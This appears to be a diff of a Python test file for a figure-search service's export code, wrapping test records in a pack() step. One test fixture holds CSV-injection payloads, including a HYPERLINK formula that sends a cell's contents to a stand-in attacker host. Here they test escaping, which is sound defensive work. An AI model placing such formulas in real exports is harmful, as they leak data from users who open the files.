@@ -26,6 +26,7 @@ from werkzeug.test import EnvironBuilder
 
 import indexer
 from indexer import pipeline
+from indexer.index.records import pack
 from indexer.index.schema import SCHEMA_VERSION
 from indexer.record import Figure, Gene, Term
 from server.search.hits import hit
@@ -154,23 +155,25 @@ def test_every_request_field_is_part_of_the_cache_key(sample_index: Path):
 
 # -- export formats, without HTTP --------------------------------------------------------
 
-# Hits made by the service's own hit builder, from records with awkward values.
+# Hits made by the service's own hit builder, from stored records with awkward values.
 AWKWARD_HIT = hit(
-    Figure(
-        figid="PMC1__fig1",
-        figtitle='IL-6, "STAT3"\tand\nβ-catenin',
-        papertitle="A paper; with a semicolon",
-        reftext="Doe J, et al.",
-        year=2015,
-        pmcid="PMC1",
-        organisms=["Homo sapiens", "Mus musculus"],
-        genes=[Gene("IL6", "3569", ["IL-6"]), Gene("STAT3"), Gene("JAK2", "3717")],
-        diseases=[Term("Neoplasms", "D009369")],
-    ).as_dict(),
+    pack(
+        Figure(
+            figid="PMC1__fig1",
+            figtitle='IL-6, "STAT3"\tand\nβ-catenin',
+            papertitle="A paper; with a semicolon",
+            reftext="Doe J, et al.",
+            year=2015,
+            pmcid="PMC1",
+            organisms=["Homo sapiens", "Mus musculus"],
+            genes=[Gene("IL6", "3569", ["IL-6"]), Gene("STAT3"), Gene("JAK2", "3717")],
+            diseases=[Term("Neoplasms", "D009369")],
+        ).as_dict()
+    ),
     "",
     None,
 )
-NO_GENES_HIT = hit(Figure(figid="PMC2__fig2", figtitle="No genes").as_dict(), "", None)
+NO_GENES_HIT = hit(pack(Figure(figid="PMC2__fig2", figtitle="No genes").as_dict()), "", None)
 
 
 @pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
@@ -205,16 +208,18 @@ def test_json_export_is_one_array():
 
 # Cells a spreadsheet would run as formulas (OWASP "CSV injection"), on every text field.
 FORMULA_HIT = hit(
-    Figure(
-        figid="PMC3__fig3",
-        figtitle='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-        papertitle="+1+1",
-        reftext="-2+3",
-        journal="@SUM(A1:A9)",
-        genes=[Gene("=1+1"), Gene("STAT3")],
-        diseases=[Term("\t=1+1")],
-        chemicals=[Term("\r=1+1")],
-    ).as_dict(),
+    pack(
+        Figure(
+            figid="PMC3__fig3",
+            figtitle='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+            papertitle="+1+1",
+            reftext="-2+3",
+            journal="@SUM(A1:A9)",
+            genes=[Gene("=1+1"), Gene("STAT3")],
+            diseases=[Term("\t=1+1")],
+            chemicals=[Term("\r=1+1")],
+        ).as_dict()
+    ),
     "",
     None,
 )
